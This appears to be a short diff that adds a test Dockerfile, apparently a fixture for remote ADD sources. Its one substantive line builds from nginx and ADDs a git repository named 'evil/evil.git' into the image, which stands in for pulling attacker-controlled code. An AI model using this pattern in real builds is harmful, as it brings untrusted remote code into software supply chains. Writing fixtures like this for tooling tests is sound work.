@@ -1,0 +1,3 @@
+# dockerfile-remote: the same, from git
+FROM nginx
+ADD git@github.com:evil/evil.git /x
